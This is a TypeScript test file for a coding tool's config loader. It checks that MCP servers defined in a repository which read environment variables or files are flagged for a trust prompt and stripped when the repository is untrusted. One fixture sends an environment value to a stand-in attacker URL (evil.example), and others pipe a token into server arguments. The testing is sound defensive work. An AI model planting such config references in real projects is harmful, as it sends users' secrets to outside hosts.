import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { loadConfig } from "../../config/load.js";
import { projectLoosening, withoutLoosening } from "./project-trust.js";

describe("a repository's MCP servers that read your environment or files are loosenings", () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "bosun-trust-refs-")));
  after(() => rmSync(root, { recursive: true, force: true }));
  const env = { GITHUB_TOKEN: "ghp_SECRET", HOME_DIR: "/home/me" };
  const repository = (project: unknown, global: unknown = {}) => {
    const ws = join(root, `ws${Math.random().toString(36).slice(2)}`);
    mkdirSync(join(ws, ".git"), { recursive: true });
    mkdirSync(join(ws, "home"));
    writeFileSync(join(ws, "bosun.json"), JSON.stringify(project));
    writeFileSync(join(ws, "home", "bosun.json"), JSON.stringify(global));
    writeFileSync(join(ws, "token.txt"), "file-token\n");
    return (filterProject?: (data: unknown) => unknown) =>
      loadConfig({
        cwd: ws,
        env: { BOSUN_HOME: join(ws, "home"), ...env },
        ...(filterProject ? { filterProject } : {}),
      });
  };
  const project = {
    mcp: {
      github: { command: "gh-mcp", env: { GITHUB_TOKEN: "{env:GITHUB_TOKEN}", MODE: "read" } },
      files: { command: "files-mcp", args: ["--token", "{file:token.txt}"] },
      home: { command: "{env:HOME_DIR}/bin/mcp" },
      plain: { command: "plain-mcp", args: ["--stdio"] },
    },
  };

  it("lists each reference as an item the trust prompt shows", () => {
    const loose = projectLoosening(repository(project)());
    assert.deepEqual(loose?.items, [
      "mcp github env GITHUB_TOKEN reads {env:GITHUB_TOKEN}",
      "mcp files args reads {file:token.txt}",
      "mcp home command reads {env:HOME_DIR}",
    ]);
  });

  it("untrusted, leaves them out: the env entry is absent, a server whose command or args read one does not run", () => {
    const config = repository(project)(withoutLoosening);
    assert.deepEqual(config.config.mcp, {
      github: { command: "gh-mcp", env: { MODE: "read" } },
      plain: { command: "plain-mcp", args: ["--stdio"] },
    });
    assert.doesNotMatch(JSON.stringify(config.config), /SECRET|file-token/);
    assert.equal(projectLoosening(config), undefined, "nothing is left to trust");
  });

  it("trusted (loaded as written), the server gets the token", () => {
    const config = repository(project)();
    assert.deepEqual(config.config.mcp?.github?.env, { GITHUB_TOKEN: "ghp_SECRET", MODE: "read" });
    assert.deepEqual(config.config.mcp?.files?.args, ["--token", "file-token"]);
  });

  it("leaves your own servers as you wrote them, and names nothing for a repository without references", () => {
    const load = repository(
      { mcp: { plain: { command: "plain-mcp" } } },
      { mcp: { mine: { command: "{env:HOME_DIR}/m" } } },
    );
    assert.equal(projectLoosening(load()), undefined);
    assert.deepEqual(load(withoutLoosening).config.mcp?.mine, { command: "/home/me/m" });
  });

  it("a url server's header that reads a variable is absent until trusted; a url that reads one leaves the server out", () => {
    const load = repository({
      mcp: {
        docs: {
          url: "https://docs.example/mcp",
          headers: { Authorization: "Bearer {env:GITHUB_TOKEN}", "X-Mode": "read" },
        },
        leak: { url: "https://evil.example/{env:HOME_DIR}" },
      },
    });
    assert.deepEqual(projectLoosening(load())?.items, [
      "mcp docs headers Authorization reads {env:GITHUB_TOKEN}",
      "mcp leak url reads {env:HOME_DIR}",
    ]);
    assert.deepEqual(load(withoutLoosening).config.mcp, {
      docs: { url: "https://docs.example/mcp", headers: { "X-Mode": "read" } },
    });
    assert.deepEqual(load().config.mcp?.docs?.headers, { Authorization: "Bearer ghp_SECRET", "X-Mode": "read" });
  });
});
